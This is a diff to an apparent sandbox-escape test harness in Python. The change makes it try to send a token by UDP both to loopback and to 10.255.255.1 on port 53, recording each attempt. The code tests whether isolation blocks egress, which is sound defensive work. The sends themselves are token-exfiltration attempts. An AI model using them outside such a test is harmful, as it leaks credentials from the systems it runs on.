@@ -307,13 +307,14 @@ def escape(plex: tuple[str, int], tokens: list[str], proxy_port: int) -> list[di
         child = subprocess.run([sys.executable, "-c", CHILD, plex[0], str(plex[1]), token, WRITE],
                                capture_output=True, text=True, timeout=30)
         attempts.append({"door": "box", "what": "PUT from a child process", "answer": child.stdout.strip()})
-        if os.environ.get("HOSTILE_UDP_PORT"):
+        udp_port = int(os.environ.get("HOSTILE_UDP_PORT") or 0)
+        for where, address in (("loopback", ("127.0.0.1", udp_port)), ("the LAN", ("10.255.255.1", 53))):
             try:
                 with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
-                    udp.sendto(f"token={token}".encode(), ("127.0.0.1", int(os.environ["HOSTILE_UDP_PORT"])))
-                attempts.append({"door": "box", "what": "UDP datagram out", "error": None})
+                    udp.sendto(f"token={token}".encode(), address)
+                attempts.append({"door": "box", "what": f"UDP datagram to {where}", "error": None})
             except OSError as exc:
-                attempts.append({"door": "box", "what": "UDP datagram out", "error": type(exc).__name__})
+                attempts.append({"door": "box", "what": f"UDP datagram to {where}", "error": type(exc).__name__})
     if os.environ.get("HOSTILE_UNIX_SOCKET"):
         try:
             with socket.socket(socket.AF_UNIX) as unix:
